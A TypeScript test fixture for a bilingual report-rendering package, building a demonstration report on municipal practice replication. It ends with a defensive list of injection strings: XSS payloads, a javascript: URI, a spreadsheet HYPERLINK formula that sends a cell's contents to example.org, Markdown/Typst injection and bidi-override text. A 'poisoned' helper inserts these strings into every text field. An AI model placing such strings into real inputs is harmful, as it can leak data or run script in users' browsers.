import type { Block, Locale, Report } from '@tirazh/spec'
import { moreBlocks } from './fixture-more.js'

/** A report with every kind of block and value, for the tests of this package. */
export function fixture(locale: Locale): Report {
  const say = (ru: string, en: string): string => (locale === 'ru' ? ru : en)
  const ids = (prefix: string, count: number): readonly string[] =>
    Array.from({ length: count }, (_, index) => `${prefix}-${String(index + 1).padStart(4, '0')}`)
  const rule = say('Внедрение засчитывается после замера', 'An adoption counts once it has been measured')
  const noun = {
    ru: { one: 'внедрение', few: 'внедрения', many: 'внедрений' },
    en: { one: 'adoption', other: 'adoptions' },
  }
  const basis = { rule, records: [{ kind: 'adoption', noun, ids: ids('ВН', 39) }] }
  const places = ['Бор', 'Вад', 'Выкса', 'Дальнеконстантиновский', 'Шахунья']

  const charts: readonly Block[] = [
    {
      type: 'chart',
      chart: 'tiles',
      title: say('Выполнение плана, %', 'Plan reached, %'),
      labelTitle: say('Муниципалитет', 'Municipality'),
      valueTitle: say('Выполнение', 'Reached'),
      unit: '%',
      note: say('Темнее — выше.', 'Darker is higher.'),
      breaks: [80, 95, 105, 120],
      tiles: places.map((label, index) => ({
        x: index,
        y: index % 2,
        short: label.slice(0, 7),
        label,
        value: index === 1 ? null : 70 + index * 16,
      })),
    },
    {
      type: 'chart',
      chart: 'bars',
      title: say('Лидеры', 'Leaders'),
      labelTitle: say('Муниципалитет', 'Municipality'),
      valueTitle: say('Внедрений', 'Adoptions'),
      items: places.map((label, index) => ({ label, value: 24 - index * 7 })),
    },
    {
      type: 'chart',
      chart: 'columns',
      title: say('Факт и план', 'Actual and plan'),
      labelTitle: say('Квартал', 'Quarter'),
      valueTitle: say('Факт', 'Actual'),
      items: [
        { label: 'I 2026', value: 325, plan: 330 },
        { label: 'II 2026', value: 1439 },
      ],
    },
  ]

  return {
    schema: 'report/1',
    id: 'summary',
    locale,
    title: say('Тиражирование практик', 'Replication of practices'),
    subtitle: say('За III квартал 2026 года', 'Third quarter of 2026'),
    issuer: say('Проектный офис', 'Project office'),
    issuedOn: '2026-10-05',
    notice: say('Демонстрационные данные', 'Demonstration data'),
    provenance: {
      asOf: '2026-09-30',
      source: say('Реестр практик', 'Register of practices'),
      generator: 'tirazh 0.0.0',
      policies: [
        {
          id: 'replication',
          title: say('Тиражирование', 'Replication'),
          version: '2018-01-01',
          params: [
            {
              title: say('Не менее муниципалитетов', 'At least municipalities'),
              value: { as: 'number', value: 15 },
              origin: say('значение SDK по умолчанию', 'SDK default'),
            },
          ],
        },
        { id: 'certification', title: say('Аттестация', 'Certification'), version: null, params: [] },
      ],
    },
    blocks: [
      {
        type: 'lead',
        content: [
          say('Переняли ', 'Adopted '),
          { as: 'number', value: 1439, unit: say('практик', 'practices'), basis },
          say(', это больше на ', ', which is more by '),
          { as: 'share', value: 0.267, signed: true },
          '.',
        ],
      },
      {
        type: 'metrics',
        items: [
          { label: say('Практик', 'Practices'), value: { as: 'number', value: 1439, basis } },
          { label: say('Эффект', 'Effect'), value: { as: 'money', minor: 71_610_000_050, currency: 'RUB' } },
          {
            label: say('Доля', 'Share'),
            value: { as: 'share', value: 0.65 },
            note: say('план 60 %', 'plan 60%'),
          },
          {
            label: say('Аттестовано', 'Certified'),
            value: { as: 'interval', low: 14, high: 15, unit: say('чел.', 'people') },
          },
        ],
      },
      { type: 'heading', level: 2, text: say('Где и когда', 'Where and when') },
      { type: 'columns', columns: [charts.slice(0, 1), charts.slice(1)] },
      // Levels are drawn without gaps: this one becomes level 3.
      { type: 'heading', level: 4, text: say('Практики', 'Practices') },
      {
        type: 'table',
        caption: say('Пять практик', 'Five practices'),
        columns: [
          { title: say('Практика', 'Practice'), rowHeader: true },
          { title: say('Внедрений', 'Adoptions'), bar: true },
          { title: say('Начата', 'Started') },
          { title: say('Решение', 'Decision') },
        ],
        rows: [
          [
            {
              as: 'reference',
              text: say('Единое окно', 'One-stop shop'),
              record: { kind: 'practice', id: 'ПР-0001' },
              report: 'passport/ПР-0001',
            },
            { as: 'number', value: 31, basis },
            { as: 'date', value: '2025-02-01' },
            { as: 'status', status: 'met', text: say('тиражирована', 'replicated') },
          ],
          [
            { as: 'reference', text: say('Канбан', 'Kanban'), record: { kind: 'practice', id: 'ПР-0002' } },
            { as: 'number', value: -4 },
            { as: 'unknown', text: say('не указана', 'not recorded') },
            { as: 'status', status: 'unknown', text: say('не хватает данных', 'data are missing') },
          ],
          [
            say('Маршруты', 'Routes'),
            { as: 'number', value: 20, bound: 'more-than' },
            null,
            { as: 'status', status: 'unmet', text: say('не тиражирована', 'not replicated') },
          ],
        ],
        total: [say('Всего', 'Total'), { as: 'number', value: 47 }, null, null],
        note: say('Без проверки.', 'Unchecked.'),
      },
      {
        type: 'callout',
        tone: 'attention',
        title: say('Требует решения', 'Needs a decision'),
        blocks: [
          {
            type: 'list',
            items: [
              {
                content: [
                  say('Назначить до ', 'Appoint by '),
                  { as: 'date', value: '2026-10-20', style: 'long' },
                ],
              },
            ],
          },
        ],
      },
      {
        type: 'callout',
        tone: 'note',
        title: say('О счёте', 'On counting'),
        blocks: [{ type: 'paragraph', content: [say('Считается один раз.', 'Counted once.')] }],
      },
      {
        type: 'list',
        items: [
          {
            status: 'unknown',
            content: [say('Практика тиражирована', 'The practice is replicated')],
            items: [
              { status: 'met', content: [say('Эффект подтверждён', 'The effect is confirmed')] },
              { status: 'unmet', content: [say('Выкса: прекращено', 'Vyksa: ended')] },
            ],
          },
        ],
      },
      {
        type: 'list',
        ordered: true,
        items: [{ content: [say('Первое', 'First')] }, { content: [say('Второе', 'Second')] }],
      },
      {
        type: 'facts',
        items: [
          { label: say('Номер', 'Number'), value: 'ПР-0102' },
          {
            label: say('Срок', 'Period'),
            value: [say('с ', 'from '), { as: 'date', value: '2024-02-12', style: 'long' }],
          },
        ],
      },
      {
        type: 'custom',
        name: 'host/seal',
        data: { colour: 'red' },
        fallback: [{ type: 'paragraph', content: [say('Место печати', 'Place of the seal')] }],
      },
      ...moreBlocks(locale),
    ],
  }
}

/** What a stranger may have put into the register. */
export const hostile: readonly string[] = [
  '"><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>\'`</style></title>{{x}}',
  'javascript:alert(1)',
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  '#import "@preview/x" #eval("1") $x$ *a* _b_',
  '[a](javascript:alert(1)) ![b](http://example.org/c.png) <http://example.org> | # `d`',
  '\u202eобратно\u2069\u202e',
]

/** The report with a hostile string, or a very long word, in every text of it. */
export function poisoned(report: Report, poison: string): Report {
  const keep: ReadonlySet<string> = new Set([
    ...['schema', 'locale', 'type', 'chart', 'as', 'status', 'tone', 'bound', 'style', 'align', 'currency'],
    ...['asOf', 'issuedOn', 'version', 'mediaType', 'base64'],
  ])
  return JSON.parse(JSON.stringify(report), (key, value) =>
    typeof value === 'string' && !keep.has(key) && !/^\d{4}-\d\d-\d\d$/.test(value)
      ? `${value} ${poison}`
      : value,
  )
}
